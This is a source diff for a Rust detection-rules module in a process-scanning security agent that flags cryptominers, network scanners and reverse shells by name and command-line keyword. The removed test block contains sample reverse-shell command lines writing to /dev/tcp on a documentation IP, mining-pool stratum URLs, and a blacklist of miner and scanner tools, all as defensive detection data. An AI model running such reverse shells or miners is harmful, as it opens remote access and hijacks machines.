@@ -1,82 +1,164 @@
 //! Detection rules in the format operators already have.
 //!
-//! The `detectionRules` section of an existing agent's file works unchanged. It is read strictly, because a misspelt
-//! key there silently exempts a miner; the file's other sections steer features this agent does not have.
+//! The file of an agent in the field works unchanged, and so does the `ConfigMap` that holds it.
 
-use regex::Regex;
-use serde::Deserialize;
+mod file;
+#[cfg(any(test, fuzzing))]
+pub(crate) mod fuzz;
+mod pattern;
+
+use file::Detection;
+
+pub use self::pattern::{Pattern, PatternError};
 
 /// Why a rules file was refused.
 #[derive(Debug, thiserror::Error)]
 pub enum RulesError {
     /// Not YAML, or not of the expected shape; the source says where.
     #[error("cannot read the rules: {0}")]
-    Shape(#[from] serde_saphyr::Error),
+    Shape(Box<serde_saphyr::Error>),
+    /// The same, in a file that a `ConfigMap` holds.
+    #[error("{place} cannot read the rules: {source}")]
+    ShapeInside {
+        /// The entry of the `ConfigMap`.
+        place: String,
+        /// What is wrong, and where in the entry.
+        source: Box<serde_saphyr::Error>,
+    },
     /// The file has no `detectionRules`, so nothing could ever be detected.
     #[error("the rules have no section `detectionRules`")]
     Missing,
-    /// An entry is no regular expression.
-    #[error("{place}: `{pattern}` is not a regular expression this agent understands: {source}")]
+    /// It is not known which of several sections is meant.
+    #[error("the file has {0} sections `detectionRules`; one is allowed")]
+    Several(usize),
+    /// All rules are refused, so nothing could ever be detected.
+    #[error("no pattern of the blacklist can be used; the first: {0}")]
+    NoneLeft(Refused),
+}
+
+impl From<serde_saphyr::Error> for RulesError {
+    fn from(error: serde_saphyr::Error) -> Self {
+        Self::Shape(Box::new(error))
+    }
+}
+
+impl RulesError {
+    fn in_file(self, place: &str) -> Self {
+        match self {
+            Self::Shape(source) => {
+                Self::ShapeInside { place: format!("{}:", place.trim_end_matches('.')), source }
+            }
+            other => other,
+        }
+    }
+}
+
+/// A rule that is not in force.
+#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
+#[error("{place}: {problem}")]
+pub struct Refused {
+    /// The path of the entry, or of the list, within the file.
+    pub place: String,
+    /// What is wrong with it.
+    pub problem: Problem,
+}
+
+/// Why a rule is not in force.
+#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
+pub enum Problem {
+    /// It is no regular expression of Go's.
+    #[error("`{pattern}` is not a regular expression that this agent understands: {source}")]
     Pattern {
-        /// The entry's path within the file.
-        place: String,
         /// The entry as written.
         pattern: String,
         /// What is wrong with it.
-        source: Box<regex::Error>,
+        source: PatternError,
     },
-    /// An entry is empty, which would match everything.
-    #[error("{place}: an empty pattern would match everything")]
-    Empty {
-        /// The entry's path within the file.
-        place: String,
-    },
+    /// It is empty.
+    #[error("an empty pattern would match everything")]
+    Empty,
+    /// The agents read no such list in this place.
+    #[error("agents do not read this list; the number of its patterns without effect is {0}")]
+    NotRead(usize),
 }
 
 /// A process broke a rule.
 #[derive(Clone, Debug, PartialEq, Eq)]
 pub struct Hit {
+    /// Which of the names matched, by its index; `None` for a keyword.
+    pub name: Option<usize>,
     /// Text of the process pattern; empty when a keyword of the command line matched.
     pub regex: String,
+    /// The byte of the command line where the keyword's match begins; 0 for a name.
+    pub at: usize,
 }
 
-/// What to look for, and whom to leave alone. All patterns are regular expressions without implied anchors.
+/// What to look for, and whom to leave alone. All patterns are regular expressions of Go's, without implied anchors.
 #[derive(Clone, Debug)]
 pub struct Rules {
-    processes: Vec<Regex>,
-    keywords: Vec<Regex>,
-    exempt_processes: Vec<Regex>,
-    exempt_commands: Vec<Regex>,
-    exempt_namespaces: Vec<Regex>,
-    exempt_pods: Vec<Regex>,
+    processes: Vec<Pattern>,
+    keywords: Vec<Pattern>,
+    exempt_processes: Vec<Pattern>,
+    exempt_commands: Vec<Pattern>,
+    exempt_namespaces: Vec<Pattern>,
+    exempt_pods: Vec<Pattern>,
+    refused: Vec<Refused>,
 }
 
 impl Rules {
-    /// Reads the `detectionRules` of a rules file; its other top-level sections are ignored.
+    /// Reads the `detectionRules` of a rules file, or of the `ConfigMap` that holds it; other sections are ignored.
+    ///
+    /// A pattern that can't be used is left out, see [`refused`](Self::refused); the others are in force.
+    ///
+    /// # Errors
+    /// Fails if the file is not of the expected shape, or no rule of its blacklist can be used.
     pub fn from_yaml(text: &str) -> Result<Self, RulesError> {
-        let File { detection_rules } = serde_saphyr::from_str(text)?;
-        let Detection { blacklist, whitelist } = detection_rules.ok_or(RulesError::Missing)?;
-        let Blacklist { processes, keywords } = blacklist.unwrap_or_default();
-        let exempt = whitelist.unwrap_or_default();
-        Ok(Self {
-            processes: compile("blacklist.processes", processes)?,
-            keywords: compile("blacklist.keywords", keywords)?,
-            exempt_processes: compile("whitelist.processes", exempt.processes)?,
-            exempt_commands: compile("whitelist.commands", exempt.commands)?,
-            exempt_namespaces: compile("whitelist.namespaces", exempt.namespaces)?,
-            exempt_pods: compile("whitelist.podNames", exempt.pod_names)?,
-        })
+        let (place, Detection { blacklist, whitelist }) = file::read(text)?;
+        let (black, white) = (blacklist.unwrap_or_default(), whitelist.unwrap_or_default());
+        let mut reader = Reader { place: format!("{place}detectionRules."), refused: Vec::new() };
+        let rules = Self {
+            processes: reader.compile("blacklist.processes", black.processes),
+            keywords: reader.compile("blacklist.keywords", black.keywords),
+            exempt_processes: reader.compile("whitelist.processes", white.processes),
+            exempt_commands: reader.compile("whitelist.commands", white.commands),
+            exempt_namespaces: reader.compile("whitelist.namespaces", white.namespaces),
+            exempt_pods: reader.compile("whitelist.podNames", white.pod_names),
+            refused: Vec::new(),
+        };
+        reader.is_not_read("blacklist.commands", black.commands);
+        reader.is_not_read("blacklist.namespaces", black.namespaces);
+        reader.is_not_read("blacklist.podNames", black.pod_names);
+        reader.is_not_read("whitelist.keywords", white.keywords);
+        if rules.processes.is_empty() && rules.keywords.is_empty() {
+            let of_blacklist = |refused: &&Refused| refused.place.contains("detectionRules.blacklist");
+            if let Some(first) = reader.refused.iter().find(of_blacklist) {
+                return Err(RulesError::NoneLeft(first.clone()));
+            }
+        }
+        Ok(Self { refused: reader.refused, ..rules })
     }
 
-    /// Judges a process by its name and its whole command line. Names are tried before keywords.
-    pub fn judge(&self, process: &str, cmdline: &str) -> Option<Hit> {
-        let regex = match self.processes.iter().find(|pattern| pattern.is_match(process)) {
-            Some(pattern) => pattern.as_str().to_owned(),
-            None if any(&self.keywords, cmdline) => String::new(),
-            None => return None,
+    /// The rules of the file that are not in force.
+    pub fn refused(&self) -> &[Refused] {
+        &self.refused
+    }
+
+    /// Judges a process by its names and its whole command line. Names are tried before keywords.
+    ///
+    /// A process can choose some of its names, so a name exempts no other name. It does exempt a keyword.
+    pub fn judge(&self, names: &[String], cmdline: &str) -> Option<Hit> {
+        let by_name = names.iter().enumerate().find_map(|(index, name)| {
+            let pattern = self.processes.iter().find(|pattern| pattern.is_match(name))?;
+            let regex = pattern.as_str().to_owned();
+            (!any(&self.exempt_processes, name)).then_some(Hit { name: Some(index), regex, at: 0 })
+        });
+        let by_keyword = || {
+            let at = self.keywords.iter().find_map(|pattern| pattern.find(cmdline))?;
+            let is_exempt = names.iter().any(|name| any(&self.exempt_processes, name));
+            (!is_exempt).then_some(Hit { name: None, regex: String::new(), at })
         };
-        let exempt = any(&self.exempt_processes, process) || any(&self.exempt_commands, cmdline);
-        (!exempt).then_some(Hit { regex })
+        let hit = by_name.or_else(by_keyword)?;
+        (!any(&self.exempt_commands, cmdline)).then_some(hit)
     }
 
     /// Whether everything in this pod is exempt, by its namespace or its name.
@@ -98,149 +180,47 @@ impl Default for Rules {
             exempt_commands: Vec::new(),
             exempt_namespaces: Vec::new(),
             exempt_pods: Vec::new(),
+            refused: Vec::new(),
         })
     }
 }
 
-fn any(patterns: &[Regex], text: &str) -> bool {
+fn any(patterns: &[Pattern], text: &str) -> bool {
     patterns.iter().any(|pattern| pattern.is_match(text))
 }
 
-fn compile(list: &str, patterns: Option<Vec<String>>) -> Result<Vec<Regex>, RulesError> {
-    let compile_one = |(index, pattern): (usize, String)| {
-        let place = format!("detectionRules.{list}[{index}]");
-        if pattern.is_empty() {
-            return Err(RulesError::Empty { place });
+/// Reads the lists of a file.
+struct Reader {
+    /// Where the lists are.
+    place: String,
+    refused: Vec<Refused>,
+}
+
+impl Reader {
+    fn compile(&mut self, list: &str, patterns: Option<Vec<String>>) -> Vec<Pattern> {
+        let mut compiled = Vec::new();
+        for (index, pattern) in patterns.unwrap_or_default().into_iter().enumerate() {
+            let problem = match Pattern::new(&pattern) {
+                _ if pattern.is_empty() => Problem::Empty,
+                Ok(pattern) => {
+                    compiled.push(pattern);
+                    continue;
+                }
+                Err(source) => Problem::Pattern { pattern, source },
+            };
+            self.refused.push(Refused { place: format!("{}{list}[{index}]", self.place), problem });
         }
-        Regex::new(&pattern).map_err(|source| RulesError::Pattern {
-            place,
-            pattern,
-            source: Box::new(source),
-        })
-    };
-    patterns.unwrap_or_default().into_iter().enumerate().map(compile_one).collect()
-}
+        compiled
+    }
 
-// Sections and lists are optional rather than defaulted: operators comment out all entries and leave the bare key.
-
-#[derive(Deserialize)]
-#[serde(rename_all = "camelCase")]
-struct File {
-    detection_rules: Option<Detection>,
-}
-
-#[derive(Deserialize)]
-#[serde(deny_unknown_fields)]
-struct Detection {
-    blacklist: Option<Blacklist>,
-    whitelist: Option<Whitelist>,
-}
-
-#[derive(Default, Deserialize)]
-#[serde(deny_unknown_fields)]
-struct Blacklist {
-    processes: Option<Vec<String>>,
-    keywords: Option<Vec<String>>,
-}
-
-#[derive(Default, Deserialize)]
-#[serde(rename_all = "camelCase", deny_unknown_fields)]
-struct Whitelist {
-    processes: Option<Vec<String>>,
-    commands: Option<Vec<String>>,
-    namespaces: Option<Vec<String>>,
-    pod_names: Option<Vec<String>>,
+    fn is_not_read(&mut self, list: &str, patterns: Option<Vec<String>>) {
+        let count = patterns.map_or(0, |patterns| patterns.len());
+        if count > 0 {
+            let problem = Problem::NotRead(count);
+            self.refused.push(Refused { place: format!("{}{list}", self.place), problem });
+        }
+    }
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    const FILE: &str = r#"
-scanner: {proc_path: /host/proc, scan_interval: 100s}
-actions: {label: {enabled: false}}
-detectionRules:
-  blacklist:
-    processes: ["^miner$", scan]
-    keywords: ['stratum\+tcp://']
-  whitelist:
-    processes: [^goodscan$]
-    commands: [--dry-run]
-    namespaces: [^kube-]
-    podNames: ['^debug-']
-"#;
-
-    fn hit(regex: &str) -> Hit {
-        Hit { regex: regex.to_owned() }
-    }
-
-    #[test]
-    fn names_and_command_lines_are_matched_unanchored() {
-        let rules = Rules::from_yaml(FILE).unwrap();
-        assert_eq!(rules.judge("miner", "/bin/miner"), Some(hit("^miner$")));
-        assert_eq!(rules.judge("portscanner", "portscanner 10.0.0.0/8"), Some(hit("scan")));
-        assert_eq!(rules.judge("a", "a -o stratum+tcp://b"), Some(hit("")));
-        assert_eq!(
-            rules.judge("miner", "miner -o stratum+tcp://b"),
-            Some(hit("^miner$")),
-            "names come first"
-        );
-        assert_eq!(rules.judge("bash", "bash -c miner"), None, "a name rule does not read the arguments");
-    }
-
-    #[test]
-    fn any_exemption_is_enough() {
-        let rules = Rules::from_yaml(FILE).unwrap();
-        assert_eq!(rules.judge("goodscan", "goodscan"), None);
-        assert_eq!(rules.judge("miner", "miner --dry-run"), None);
-        assert!(rules.exempts_pod("kube-system", "x"));
-        assert!(rules.exempts_pod("ns-a", "debug-1"));
-        assert!(!rules.exempts_pod("ns-a", "web-debug-1"));
-    }
-
-    #[test]
-    fn bare_keys_are_empty_lists() {
-        let rules = Rules::from_yaml("detectionRules: {blacklist: {processes: }, whitelist: }").unwrap();
-        assert_eq!(rules.judge("xmrig", "xmrig"), None);
-    }
-
-    #[test]
-    fn errors_name_the_place() {
-        let error = |text: &str| Rules::from_yaml(text).unwrap_err().to_string();
-        let bad = error("detectionRules: {blacklist: {keywords: [fine, 'open(']}}");
-        assert!(bad.starts_with("detectionRules.blacklist.keywords[1]: `open(` is not"), "{bad}");
-        let empty = error("detectionRules: {whitelist: {namespaces: ['']}}");
-        assert!(empty.contains("whitelist.namespaces[0]: an empty pattern"), "{empty}");
-        let misspelt = error("detectionRules:\n  blacklist:\n    procesess: [x]");
-        assert!(misspelt.contains("procesess") && misspelt.contains("line 3"), "{misspelt}");
-        assert!(error("scanner: {}").contains("`detectionRules`"));
-        assert!(error("detectionRules: [").starts_with("cannot read the rules"));
-    }
-
-    #[test]
-    fn the_built_in_rules_hit_offenders_and_nobody_else() {
-        let rules = Rules::default();
-        for guilty in ["xmrig", "minerd", "masscan", "zmap"] {
-            assert_eq!(rules.judge(guilty, guilty), Some(hit(&format!("^{guilty}$"))));
-        }
-        for guilty in [
-            "./a -o stratum+tcp://pool.example.com:3333 -u 4Ad",
-            "node --url=stratum+ssl://pool.example.com",
-            "bash -c bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
-            "/bin/sh -i 2>&1 >/dev/tcp/192.0.2.1/4444",
-        ] {
-            assert_eq!(rules.judge("x", guilty), Some(hit("")), "{guilty}");
-        }
-        for innocent in [
-            "procscan agent --simulate 4",
-            "cargo test -p procscan-agent xmrig",
-            "vim xmrig.md",
-            "grep -rn stratum+tcp:// src",
-            "grep -e bash -i >& /dev/tcp/1.2.3.4/5",
-            "bash -i",
-        ] {
-            let name = innocent.split_whitespace().next().unwrap();
-            assert_eq!(rules.judge(name, innocent), None, "{innocent}");
-        }
-    }
-}
+mod tests;
